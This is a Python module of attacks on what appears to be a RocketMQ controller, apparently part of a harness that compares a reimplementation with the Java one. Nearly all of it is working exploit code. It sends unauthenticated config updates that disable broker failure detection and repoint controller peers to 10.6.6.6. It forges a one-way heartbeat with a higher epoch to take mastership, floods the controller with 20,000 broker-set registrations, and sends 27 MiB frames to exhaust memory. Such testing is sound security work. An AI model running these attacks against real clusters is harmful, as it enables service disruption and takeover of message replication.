"""Attacks on a controller: requests that it and Java's both understand, from peers without identity."""

import contextlib
import time
from collections import Counter

from attacked import Attack, Result, Target, frames, in_words, nothing, requests
from hostile import numbered
from peers.replicas import APPLY_ID, HEARTBEAT, ONE_WAY, Replica
from peers.waiting import wait_until
from peers.wire import SUCCESS

MIB = 1024 * 1024
GET_SYNC_STATE_DATA, UPDATE_CONTROLLER_CONFIG, GET_CONTROLLER_CONFIG = 1006, 1009, 1010
VICTIM = "victim"
#: After a claim of a higher epoch.
CLAIM_S = 15
NEW_SETS, NEW_SETS_S, AT_A_TIME = 20_000, 60, 100


def controller_settings(target: Target, _made: object) -> Result:
    """Change what decides about failover."""
    changes = {
        "scanNotActiveBrokerInterval": "600000",
        "suspectTimeoutMs": "600000",
        "notifyBrokerRoleChanged": "false",
        "controllerDLegerPeers": "n0-10.6.6.6:9878",
    }
    answers = [
        target.request(UPDATE_CONTROLLER_CONFIG, {}, f"{name}={value}".encode()).split()[0]
        for name, value in changes.items()
    ]
    listed = target.server.caller.request(GET_CONTROLLER_CONFIG).body.decode().splitlines()
    changed = [name for name, value in changes.items() if f"{name}={value}" in listed]
    return Result(", ".join(answers), f"in force or stored: {', '.join(changed) or 'none'}")


def healthy_set(target: Target) -> list[Replica]:
    """Return a set of three brokers, the first of which is master, with the second in sync."""
    replicas = [Replica(target.server.address, VICTIM) for _ in range(3)]
    for replica, messages in zip(replicas, (1000, 1000, 5), strict=True):
        replica.max_offset = messages
        replica.join()
    master = replicas[0]
    wait_until(lambda: master.elect().code == SUCCESS, seconds=30, what="the first to be master")
    fields = master.info().fields
    epochs = {"master_epoch": fields["masterEpoch"], "sync_state_set_epoch": 1}
    answer = master.report([replica.broker_id for replica in replicas[:2]], **epochs)
    assert answer.code == SUCCESS, answer
    for replica in replicas:
        replica.epoch = int(fields["masterEpoch"])
    return replicas


def higher_epoch(target: Target, replicas: list[Replica]) -> Result:
    """Let a stranger beat once for the broker out of sync, with a higher epoch."""
    last, before = replicas[2], target.server.set_state(VICTIM)
    claim = {"brokerAddr": last.address, "brokerId": last.broker_id, "heartbeatTimeoutMills": 10_000}
    claim |= {"epoch": before.master_epoch + 1, "maxOffset": 5, "confirmOffset": 5}
    with contextlib.closing(target.line()) as stranger:
        stranger.send(HEARTBEAT, last.fields(**claim), flag=ONE_WAY)
    end = time.monotonic() + CLAIM_S
    while (after := target.server.set_state(VICTIM)).epochs == before.epochs and time.monotonic() < end:
        time.sleep(0.1)
    for replica in replicas:
        replica.die()
    led = f"{after.master} leads at epoch {after.master_epoch}"
    same = after.epochs == before.epochs
    return Result("one-way", f"{CLAIM_S} s later {led}" if same else f"**{led}**, before it {before.master}")


def new_sets(target: Target, _made: object) -> Result:
    """Begin sets under ever new names, and let a broker of another host begin one."""
    codes: Counter[int] = Counter()
    began = time.monotonic()
    with contextlib.closing(target.line()) as line:
        for first in range(0, NEW_SETS, AT_A_TIME):
            for number in range(first, first + AT_A_TIME):
                line.send(APPLY_ID, application(f"made-up-{number}"))
            codes.update(line.receive()[1].code for _ in range(AT_A_TIME))
            if time.monotonic() > began + NEW_SETS_S:
                break
    took_s = time.monotonic() - began
    with contextlib.closing(target.line(host="127.0.0.2")) as other:
        answer = in_words(other.request(APPLY_ID, application("of-another-host")))
    counts = ", ".join(f"{count:,} x {code}" for code, count in codes.items())
    return Result(f"{counts} in {took_s:.0f} s", f"a new set of another host: {answer}")


def application(name: str) -> dict[str, str]:
    """Return the fields of a request for the first broker id of a set."""
    return {"clusterName": "C", "brokerName": name, "appliedBrokerId": "1", "registerCheckCode": "10.6.6.6:10911;1"}


ATTACKS = [
    Attack("nothing, for 3 s: controller", nothing, kind="controller"),
    Attack(
        "1006: lists of names, 27 MiB; then 15 MiB, which Java's frames may have",
        requests,
        frames(
            GET_SYNC_STATE_DATA,
            {},
            lambda: numbered(b"[", b'"%d"', b"]", 27 * MIB),
            lambda: numbered(b"[", b'"%d"', b"]", 15 * MIB),
        ),
        kind="controller",
    ),
    Attack(
        "1009: scanNotActiveBrokerInterval=600000; suspectTimeoutMs=600000; notifyBrokerRoleChanged=false; "
        "controllerDLegerPeers",
        controller_settings,
        kind="controller",
    ),
    Attack(
        "one 904 of a stranger for broker 3, out of sync with 5 bytes, with the next epoch; 1 leads, 2 is in sync too",
        higher_epoch,
        healthy_set,
        kind="controller",
    ),
    Attack(f"{NEW_SETS:,} x 1013, each with a new name of a set", new_sets, kind="controller"),
]
